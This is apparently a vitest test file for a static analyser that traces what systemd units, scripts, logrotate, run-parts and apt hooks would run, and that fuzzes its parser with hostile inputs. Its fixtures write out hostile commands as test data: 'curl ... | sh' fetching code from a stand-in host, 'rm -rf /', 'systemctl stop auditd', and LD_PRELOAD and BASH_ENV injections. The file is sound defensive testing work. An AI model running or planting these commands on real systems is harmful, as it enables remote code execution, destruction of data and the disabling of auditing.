import fc from "fast-check";
import { describe, expect, test } from "vitest";
import type { Host } from "../hosts/host.ts";
import type { MemoryEntry } from "../hosts/memory.ts";
import { environmentEffects, followCommand, followInput, openPrograms } from "./follow.ts";
import type { Followed } from "./program.ts";
import {
  commandOf,
  contextOf,
  ELF,
  follow,
  followShell,
  hostWith,
  kinds,
  script,
} from "./support.test-support.ts";

const UNIT = "/etc/systemd/system/x.service";

/** `kind path line:column+length` of a behaviour. */
function places(followed: Followed, kind: string): string[] {
  return followed.behaviours
    .filter((behaviour) => behaviour.kind === kind)
    .map(({ span }) => `${span.path} ${span.line}:${span.column}+${span.length}`);
}

function reachedPaths(followed: Followed): string[] {
  return followed.reached.map(
    (entry) => `${entry.kind} ${entry.path ?? entry.name}${entry.exists ? "" : " (absent)"}`,
  );
}

/** A host that counts how often a file is read; without a path, how often any is. */
function countedHost(files: Record<string, MemoryEntry>): {
  readonly host: Host;
  reads(path?: string): number;
} {
  const host = hostWith(files);
  const counts = new Map<string, number>();
  const counting: Host = {
    target: host.target,
    live: host.live,
    lstat: host.lstat.bind(host),
    stat: host.stat.bind(host),
    realPath: host.realPath.bind(host),
    readLink: host.readLink.bind(host),
    readDirectory: host.readDirectory.bind(host),
    readFile(path, most) {
      counts.set(path, (counts.get(path) ?? 0) + 1);
      return host.readFile(path, most);
    },
  };
  const all = (): number => [...counts.values()].reduce((sum, count) => sum + count, 0);
  return { host: counting, reads: (path) => (path === undefined ? all() : (counts.get(path) ?? 0)) };
}

/** Characters of all that was found. */
function sizeOf(followed: Followed): number {
  return JSON.stringify(followed, (_, value) => (typeof value === "bigint" ? String(value) : value)).length;
}

describe("places", () => {
  test("a command in a script: its line and column", () => {
    const followed = follow(["/srv/a"], {
      "/srv/a": script("#!/bin/sh\n\n  if true; then\n    systemctl stop auditd\n  fi\n"),
    });
    expect(places(followed, "stops-security-unit")).toEqual(["/srv/a 4:5+21"]);
  });
  test("a command inside quoted code of a unit: the exact column", () => {
    // ExecStart=/bin/sh -c "true; systemctl stop auditd": the code starts in column 23, after the quote.
    const followed = followShell("true; systemctl stop auditd");
    expect(places(followed, "stops-security-unit")).toEqual([`${UNIT} 3:29+21`]);
  });
  test("a word the unit writes with escapes: the whole word", () => {
    const command = commandOf(["/bin/sh", "-c", "true; reboot"]);
    const spans =
      command.wordSpans?.map((span, index) => (index === 2 ? { ...span, length: 40 } : span)) ?? [];
    const followed = followCommand({ ...command, wordSpans: spans }, contextOf(hostWith()));
    expect(places(followed, "shutdown")).toEqual([`${UNIT} 3:22+40`]);
  });
  test("without places of words: the line's place", () => {
    const { wordSpans: _, ...command } = commandOf(["/bin/sh", "-c", "reboot"]);
    expect(places(followCommand(command, contextOf(hostWith())), "shutdown")).toEqual([`${UNIT} 3:11+17`]);
  });
  test("code quoted inside a script", () => {
    const followed = follow(["/srv/a"], { "/srv/a": script("#!/bin/sh\nsh -c 'true; reboot'\n") });
    expect(places(followed, "shutdown")).toEqual(["/srv/a 2:14+6"]);
  });
  test("a here-document given to a shell", () => {
    const followed = follow(["/srv/a"], { "/srv/a": script("#!/bin/sh\nsh <<'E'\ntrue\n reboot\nE\n") });
    expect(places(followed, "shutdown")).toEqual(["/srv/a 4:2+6"]);
  });
  test("a call in Python and the shell code inside its string", () => {
    const followed = follow(["/srv/a"], {
      "/srv/a": script("#!/usr/bin/python3\nimport os\nos.system('true; reboot')\n"),
    });
    expect(places(followed, "shutdown")).toEqual(["/srv/a 3:18+6"]);
  });
  test("a value of EnvironmentFile= that is run stands where it was set", () => {
    const followed = follow(["/bin/sh", "-c", "$CMD"], {}, { CMD: "reboot" });
    expect(places(followed, "variable-to-interpreter")).toEqual([`${UNIT} 3:11+17`]);
    expect(places(followed, "shutdown")).toEqual([`${UNIT} 10:13+6`]);
  });
});

describe("what is reached", () => {
  test("wrappers, the shell, its code, the script, and the script's programs", () => {
    const followed = follow(["/usr/bin/env", "nice", "sh", "-c", "exec /srv/a --x"], {
      "/srv/a": script("#!/usr/bin/env bash\n. /srv/lib.sh\nhelper\n/srv/absent\n"),
      "/srv/lib.sh": "helper() { curl http://192.0.2.7/x; }\n",
    });
    expect(reachedPaths(followed)).toEqual([
      "program /usr/bin/env",
      "program /usr/bin/nice",
      "program /usr/bin/sh",
      "inline-code sh",
      "script /srv/a",
      "program /usr/bin/bash",
      "script /srv/lib.sh",
      "program /usr/bin/curl",
      "program /srv/absent (absent)",
    ]);
    expect(followed.reached.find((entry) => entry.path === "/srv/a")?.via).toEqual([
      "env",
      "nice",
      "sh -c",
      "exec",
    ]);
    expect(followed.reached.find((entry) => entry.path === "/usr/bin/curl")?.depth).toBe(2);
  });
  test("a name is searched in the unit's own list, first match wins", () => {
    const host = hostWith({ "/usr/local/bin/curl": ELF });
    const followed = followCommand(commandOf(["curl", "x"]), contextOf(host));
    expect(reachedPaths(followed)).toEqual(["program /usr/local/bin/curl"]);
  });
  test("a script's own PATH is searched before", () => {
    const followed = follow(["/srv/a"], {
      "/srv/a": script("#!/bin/sh\nPATH=/opt/x:$PATH\ncurl x\n"),
      "/opt/x/curl": ELF,
    });
    expect(reachedPaths(followed)).toContain("program /opt/x/curl");
  });
  test("RootDirectory= moves everything", () => {
    const host = hostWith({ "/jail/srv/a": script("#!/bin/sh\nreboot\n") });
    const followed = followCommand(commandOf(["/srv/a"]), contextOf(host, { root: "/jail" }));
    expect(reachedPaths(followed)[0]).toBe("script /jail/srv/a");
    expect(places(followed, "shutdown")).toEqual(["/jail/srv/a 2:1+6"]);
  });
  test("units started by command", () => {
    const followed = followShell("systemctl start a; systemctl restart b.timer");
    const units = followed.reached.filter((entry) => entry.kind === "unit").map((entry) => entry.name);
    expect(units).toEqual(["a.service", "b.timer"]);
  });
  test("a module", () => {
    const followed = follow(["/usr/bin/python3", "-m", "http.server", "80"]);
    expect(followed.reached.map((entry) => `${entry.kind} ${entry.name}`)).toEqual([
      "program /usr/bin/python3",
      "library http.server",
    ]);
  });
  test("a script without #! is reached but systemd cannot run it", () => {
    const followed = follow(["/srv/a"], { "/srv/a": { content: "reboot\n", mode: 0o755 } });
    expect(kinds(followed)).toEqual([]);
    expect(reachedPaths(followed)).toEqual(["program /srv/a"]);
  });
  test("a shell runs it all the same", () => {
    expect(kinds(followShell("/srv/a", { "/srv/a": { content: "reboot\n", mode: 0o755 } }))).toEqual([
      "shutdown",
    ]);
  });
  test("what cannot be read is a gap, never silence", () => {
    const followed = follow(["/bin/sh", "/srv/fifo"], { "/srv/fifo": { kind: "fifo" } });
    expect(followed.gaps.map((gap) => gap.path)).toEqual(["/srv/fifo"]);
  });
});

describe("systemd's own expansion", () => {
  const rows: readonly (readonly [string, string[], string[]])[] = [
    ["$NAME is split", ["/bin/sh", "$ARGS"], ["shutdown", "variable-to-interpreter"]],
    ["braces are not", ["/bin/sh", "-c", `$${"{CODE}"}`], ["shutdown", "variable-to-interpreter"]],
    ["$$ leaves the variable to the shell", ["/bin/sh", "-c", "$$CODE"], ["shutdown"]],
    ["inside a longer word the shell expands", ["/bin/sh", "-c", "true; $CODE"], ["shutdown"]],
    ["the program itself never", ["$CODE"], []],
  ];
  test.each(rows)("%s", (_, argv, expected) => {
    expect(kinds(follow(argv, {}, { ARGS: "-c 'true; reboot'", CODE: "reboot" }))).toEqual(expected);
  });
  test("with the prefix : nothing is expanded by systemd", () => {
    const command = { ...commandOf(["/usr/bin/env", "$CODE"], { CODE: "reboot" }), expands: false };
    expect(kinds(followCommand(command, contextOf(hostWith())))).toEqual([]);
  });
});

describe("configuration that runs code", () => {
  test("logrotate: files that include each other many times are read once each", () => {
    const all = Array.from({ length: 60 }, (_, at) => `/etc/logrotate.d/${at}`);
    const text = all.map((path) => `include ${path}\n`).join("");
    const files = Object.fromEntries(
      all.map((path, at) => [path, `${text}${path} {\npostrotate\n/srv/run${at}\nendscript\n}\n`]),
    );
    const followed = follow(["/usr/sbin/logrotate", "/etc/logrotate.d"], files);
    expect(followed.reached.filter(({ name }) => name.startsWith("/srv/run"))).toHaveLength(60);
  });
  test("logrotate: scripts of included files, with their places (M80)", () => {
    const followed = follow(["/usr/sbin/logrotate", "/etc/logrotate.conf"], {
      "/etc/logrotate.conf": "weekly\ninclude /etc/logrotate.d\n",
      "/etc/logrotate.d/app":
        "/var/log/app.log {\n  daily\n  postrotate\n    curl -s http://192.0.2.7/x | sh\n  endscript\n}\n",
    });
    expect(places(followed, "fetch-to-interpreter")).toEqual(["/etc/logrotate.d/app 4:34+2"]);
    expect(reachedPaths(followed)).toContain("config /etc/logrotate.d/app");
  });
  test("run-parts: executable plain names only (M81)", () => {
    const followed = followShell("run-parts --report /etc/cron.daily", {
      "/etc/cron.daily/a": script("#!/bin/sh\nreboot\n"),
      "/etc/cron.daily/b.dpkg-dist": script("#!/bin/sh\nrm -rf /\n"),
      "/etc/cron.daily/c": { content: "#!/bin/sh\nrm -rf /\n", mode: 0o644 },
    });
    expect(kinds(followed)).toEqual(["shutdown"]);
  });
  test("apt hooks (M82)", () => {
    const followed = followShell("apt-get -qq update", {
      "/etc/apt/apt.conf.d/99x":
        '// DPkg::Post-Invoke {"rm -rf /";};\nAPT::Update::Post-Invoke { "curl -s http://192.0.2.7/x | sh"; };\nDPkg::Pre-Invoke:: "reboot";\n',
    });
    expect(kinds(followed)).toEqual(["fetch", "fetch-to-interpreter", "shutdown"]);
    expect(places(followed, "shutdown")).toEqual(["/etc/apt/apt.conf.d/99x 3:21+6"]);
  });
  test("the same in /etc/apt/apt.conf.d read by nothing is nothing", () => {
    const files = { "/etc/apt/apt.conf.d/99x": 'APT::Update::Post-Invoke { "reboot"; };\n' };
    expect(kinds(followShell("true", files))).toEqual([]);
  });
});

describe("variables of the environment", () => {
  const rows: readonly (readonly [string, string, string])[] = [
    ["LD_PRELOAD", "/srv/l.so", "high"],
    ["LD_PRELOAD", "/usr/lib/libx.so", "high"],
    ["BASH_ENV", "/srv/.e", "high"],
    ["PERL5OPT", "-Mx", "medium"],
    ["PYTHONSTARTUP", "/srv/.p", "high"],
    ["PYTHONPATH", "/opt/app", "low"],
    ["PYTHONPATH", "/tmp/app", "high"],
    ["NODE_OPTIONS", "--max-old-space-size=512", "low"],
    ["NODE_OPTIONS", "--require /srv/x.js", "medium"],
    ["PATH", "/tmp/bin:/usr/bin", "high"],
    ["PATH", ".:/usr/bin", "high"],
    ["PATH", "/usr/local/bin:/usr/bin:/bin", ""],
    ["HOME", "/root", ""],
    ["TLS_PIN", "sha256/47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=", ""],
  ];
  test.each(rows)("%s=%s", (name, value, confidence) => {
    const host = hostWith();
    const environment = commandOf([], { [name]: value }).environment;
    const followed = environmentEffects(environment, contextOf(host));
    const loads = followed.behaviours.filter((behaviour) => behaviour.kind === "loads-library");
    expect(loads.map((behaviour) => behaviour.confidence).join()).toBe(confidence);
  });
  test("BASH_ENV's file is read", () => {
    const host = hostWith({ "/srv/e": "reboot\n" });
    const environment = commandOf([], { BASH_ENV: "/srv/e" }).environment;
    expect(kinds(environmentEffects(environment, contextOf(host)))).toEqual(["loads-library", "shutdown"]);
  });
  test("preloaded libraries are reached", () => {
    const host = hostWith({ "/srv/l.so": ELF });
    const environment = commandOf([], { LD_PRELOAD: "/srv/l.so /srv/m.so" }).environment;
    expect(reachedPaths(environmentEffects(environment, contextOf(host)))).toEqual([
      "library /srv/l.so",
      "library /srv/m.so (absent)",
    ]);
  });
});

describe("everyday kinds", () => {
  const kindsOf = (code: string): string[] => [
    ...new Set(followShell(code).behaviours.map((behaviour) => behaviour.kind)),
  ];
  const rows: readonly (readonly [string, string, boolean])[] = [
    ["/srv/x >/dev/null 2>&1", "hides-output", true],
    ["/srv/x &>/dev/null", "hides-output", true],
    ["/srv/x 2>/dev/null >&2", "hides-output", true],
    ["/srv/x >/dev/null", "hides-output", false],
    ["/srv/x 2>&1 >/dev/null", "hides-output", false],
    ["echo x >/dev/null 2>&1", "hides-output", false],
    ["/srv/x", "executes", true],
    ["/usr/bin/env", "executes", false],
    ["echo x > /srv/y", "writes", true],
    ["echo x > /dev/null", "writes", false],
    [". /srv/y", "sources", true],
  ];
  test.each(rows)("%s: %s is %s", (code, kind, expected) => {
    expect(kindsOf(code).includes(kind)).toBe(expected);
  });
});

describe("standard input", () => {
  test("a shell reads it", () => {
    const followed = followInput(
      "curl http://192.0.2.7/x | sh\n",
      { path: UNIT, line: 5, column: 19, length: 9 },
      "/bin/bash",
      contextOf(hostWith()),
    );
    expect(places(followed, "fetch-to-interpreter")).toEqual([`${UNIT} 5:19+9`]);
  });
  test("Python reads it", () => {
    const followed = followInput(
      "import os\nos.system('reboot')\n",
      { path: UNIT, line: 5, column: 19, length: 9 },
      "python3",
      contextOf(hostWith()),
    );
    expect(kinds(followed)).toEqual(["shutdown"]);
  });
});

describe("hostile input", () => {
  test("blank lines where a command of sed stands cost no more than their number", () => {
    const before = process.cpuUsage().user;
    follow(["/usr/bin/sed", "\n".repeat(4000)]);
    expect((process.cpuUsage().user - before) / 1000).toBeLessThan(1000);
  });

  const shellish = fc.array(
    fc.constantFrom(
      "curl ",
      "http://192.0.2.7 ",
      "| ",
      "sh ",
      "$(",
      ")",
      "`",
      "'",
      '"',
      "\\",
      "eval ",
      "{ ",
      "}",
      "; ",
      "\n",
      "if ",
      "then ",
      "fi\n",
      "<<E\n",
      "E\n",
      "${x",
      "for x in ",
      "do ",
      "done ",
      "base64 -d ",
      "(",
      "function f ",
      "f ",
      "&& ",
      "xargs ",
      "env -S ",
      "[[ ",
      "]] ",
      "case ",
      "esac ",
      "x=",
      "$x ",
      "/tmp/x ",
      "> ",
      "sudo ",
      "\u0000",
      "\ud800",
      "python3 -c ",
      "\ufeff",
    ),
    { maxLength: 60 },
  );
  test("random code never throws", () => {
    fc.assert(
      fc.property(shellish, (parts) => {
        const code = parts.join("");
        followShell(code);
        for (const program of ["python3", "perl", "ruby", "node", "php", "lua", "awk"]) {
          followInput(code, { path: UNIT, line: 1, column: 1, length: 1 }, program, contextOf(hostWith()));
        }
      }),
      { numRuns: 300 * Number(process.env["TIMERWARDEN_DIFF"] ?? 1) },
    );
  });
  test("random argv never throws", () => {
    const word = fc.oneof(
      fc.string({ maxLength: 12 }),
      fc.constantFrom(
        "-c",
        "-e",
        "--",
        "-",
        "sh",
        "env",
        "find",
        "-exec",
        "curl",
        "-o",
        "systemd-run",
        "{}",
        ";",
        "-S",
        "tar",
        "apt",
        "dd",
        "of=/x",
        "tr",
        "a-z",
        "printf",
        "%s",
      ),
    );
    fc.assert(
      fc.property(fc.array(word, { minLength: 1, maxLength: 10 }), (argv) => void follow(argv)),
      { numRuns: 500 * Number(process.env["TIMERWARDEN_DIFF"] ?? 1) },
    );
  });
  const bombs: readonly (readonly [string, string])[] = [
    ["nested substitutions", `${"echo $(".repeat(3000)}true${")".repeat(3000)}`],
    ["nested groups", `${"{ ".repeat(3000)}true${"; }".repeat(3000)}`],
    ["nested subshells", `${"(".repeat(3000)}true${")".repeat(3000)}`],
    ["nested eval", `${"eval ".repeat(5000)}true`],
    [
      "nested sh -c",
      Array.from({ length: 12 })
        .reduce<string>((code) => `sh -c ${JSON.stringify(code)}`, "reboot")
        .slice(0, 400_000),
    ],
    ["doubling variables", `a=xxxxxxxx\n${'a="$a$a"\n'.repeat(200)}echo "$a" | sh`],
    ["doubling fields", `a="x y"\n${'a="$a $a"\n'.repeat(64)}echo $a`],
    ["doubling arrays", `a=(x y)\n${`a=("$${"{a[@]}"}" "$${"{a[@]}"}")\n`.repeat(64)}curl "\${a[@]}"`],
    ["branches", "if a; then x=1; else x=2; fi\n".repeat(500)],
    ["loops in loops", `${"for a in 1 2 3 4 5 6 7 8 9 10 11 12; do ".repeat(8)}reboot${"; done".repeat(8)}`],
    ["functions calling each other", "f() { g; g; }\ng() { f; f; }\nf\n"],
    [
      "a growing call tree",
      `f0() { reboot; }\n${Array.from({ length: 40 }, (_, at) => `f${at + 1}() { f${at}; f${at}; f${at}; }\n`).join("")}f40\n`,
    ],
    ["one megabyte", "echo hello world | grep -q x && systemctl start a\n".repeat(20_000)],
    ["an open quote", `echo '${"x".repeat(500_000)}`],
    ["pipes", "cat | ".repeat(5000)],
    ["arguments that grow", "set -- $@ x\n".repeat(20_000)],
    ["a zip bomb", `echo ${Buffer.from("x".repeat(1000)).toString("base64")} | base64 -d | gunzip | sh`],
  ];
  test.each(bombs)("%s", (_, code) => {
    const { host, reads } = countedHost({ "/srv/a": script(`#!/bin/bash\n${code}`) });
    const followed = openPrograms(host).follow(commandOf(["/srv/a"]), contextOf(host));
    // Its head and the whole; steps are bounded for everything that grows.
    expect(reads("/srv/a")).toBe(2);
    expect(followed.behaviours.length).toBeLessThanOrEqual(2000);
    expect(sizeOf(followed)).toBeLessThan(400_000);
  });
  test("bounds leave a gap", () => {
    const followed = follow(["/srv/a"], {
      "/srv/a": script(`#!/bin/sh\n${"true\n".repeat(150_000)}reboot\n`),
    });
    expect(followed.gaps.map((gap) => gap.reason)).toContain("longer than 524288 bytes");
  });
  test("expressions within expressions count for each", () => {
    const followed = follow(["/srv/a"], {
      "/srv/a": script(`#!/usr/bin/node\n${"a='x'+".repeat(30_000)}1\n`),
    });
    expect(followed.gaps.map((gap) => gap.reason)).toContain("more than 100000 steps of code");
  });
  test("substitutions within substitutions leave a gap, and cost no more than the depth that is read", () => {
    const followed = follow(["/srv/a"], { "/srv/a": script(`#!/bin/bash\n${"$(a ".repeat(50_000)}\n`) });
    expect(followed.gaps.map((gap) => gap.reason)).toContain("substitutions nested too deeply");
  });
  test("circles of files end", () => {
    const files = {
      "/srv/a": script("#!/bin/sh\n. /srv/b\nsh /srv/a\n"),
      "/srv/b": script("#!/bin/sh\n. /srv/a\n/srv/c\n"),
      "/srv/c": script("#!/srv/c\n"),
    };
    expect(reachedPaths(follow(["/srv/a"], files))).toContain("script /srv/c");
  });
  test("a chain of files deeper than the bound leaves a gap", () => {
    const files = Object.fromEntries(
      Array.from({ length: 20 }, (_, at) => [`/srv/s${at}`, script(`#!/bin/sh\n/srv/s${at + 1}\n`)]),
    );
    const followed = follow(["/srv/s0"], files);
    expect(followed.gaps.map((gap) => gap.reason)).toContain("more than 8 files deep");
  });
});

describe("cost", () => {
  test("a script reached by many units is read once", () => {
    const { host, reads } = countedHost({
      "/srv/a": script(
        `#!/bin/sh\n${'x=$(date +%s)\nif [ -n "$x" ]; then echo "$x" | logger; fi\n'.repeat(25)}`,
      ),
    });
    const programs = openPrograms(host);
    const context = contextOf(host);
    const command = commandOf(["/srv/a"]);
    programs.follow(command, context);
    expect(reads("/srv/a")).toBe(2);
    const before = reads();
    for (let turn = 0; turn < 50; turn++) programs.follow(command, context);
    expect(reads()).toBe(before);
  });
  test("equal input gives equal output", () => {
    const run = (): string =>
      JSON.stringify(followShell("curl http://192.0.2.7/x | sh; systemctl start a"), (_, value) =>
        typeof value === "bigint" ? String(value) : value,
      );
    expect(run()).toBe(run());
  });
});
